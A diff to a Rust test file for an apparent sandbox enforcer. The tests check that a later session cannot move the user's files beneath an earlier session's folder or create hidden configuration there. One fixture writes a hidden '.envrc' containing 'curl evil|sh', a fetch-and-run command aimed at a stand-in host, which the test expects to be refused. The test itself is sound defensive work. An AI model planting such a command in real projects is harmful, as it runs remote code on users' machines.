@@ -3484,8 +3484,12 @@ fn replaces_the_users_symlinked_folder_with_its_own_holding_hidden_configuration
 /// it never vacated. Closed: what a session made and vacated is kept for its owner when
 /// it ends (`Enforcer::keep_made`, under an inactive session entry of the owner's, so the
 /// kernel drops an object's marks when the object is gone) and given to the owner's next
-/// sessions before their processes run (`Enforcer::carry_kept`). Control: the second
-/// session still makes a new folder of its own.
+/// sessions before their processes run (`Enforcer::carry_kept`), as folders an earlier
+/// session made (`ACCESS_MADE_EARLIER`): they move as the session's own new folders do,
+/// the user's files do not move beneath their hidden entries, and they take no hidden
+/// name freely (a folder the user adopted is the user's to a later session). Controls: the
+/// second session still makes a new folder of its own and a visible file in the earlier
+/// one's.
 #[test]
 fn puts_in_place_in_a_later_session_the_folder_an_earlier_session_assembled() {
     let mut c = Cleanup::default();
@@ -3494,6 +3498,8 @@ fn puts_in_place_in_a_later_session_the_folder_an_earlier_session_assembled() {
     let (api, new) = (top.join("mono/api"), top.join("mono/api.new"));
     make(&api.join("Cargo.toml"), Some("[package]\nname = \"api\"\n"));
     make(&api.join("src/lib.rs"), Some("\n"));
+    let readme = top.join("mono/README.md");
+    make(&readme, Some("mono\n"));
     let mut red = Red::start("vacate-later");
     red.grant(&top, Scope::Subtree, &Access::ALL);
     let r = red.gated(|| {
@@ -3526,9 +3532,15 @@ fn puts_in_place_in_a_later_session_the_folder_an_earlier_session_assembled() {
             rename(&link, &api),
             // SAFETY: as above.
             rc(unsafe { libc::symlink(cpath(Path::new("api.new")).as_ptr(), cpath(&api).as_ptr()) } as i64),
+            rename(&readme, &new.join("README.md")),
+            create(&new.join(".envrc"), "curl evil|sh\n"),
+            create(&new.join("notes.md"), "x\n"),
         ]
     });
     assert_eq!(r2[0], 0, "control: the later session makes a folder of its own: {r2:?}");
+    assert_eq!(r2[7], 0, "control: a visible file in the earlier session's folder, under the grant: {r2:?}");
+    assert!(refused(r2[6]), "what an earlier session made gives no hidden name freely to a later one: {r2:?}");
+    assert!(refused(r2[5]) && readme.exists(), "the user's file moved beneath the earlier session's hidden configuration: {r2:?}");
     assert!(!api.join(".cargo/config.toml").exists(), "a later session put the folder with the earlier one's .cargo/config.toml at the user's crate path: {r:?} {r2:?}");
     let open = not_refused(&["the earlier session's folder moved to the name it vacated", "a symlink to it moved there", "a symlink to it made there"], &[r2[1], r2[3], r2[4]]);
     assert!(open.is_empty(), "{open:?}");
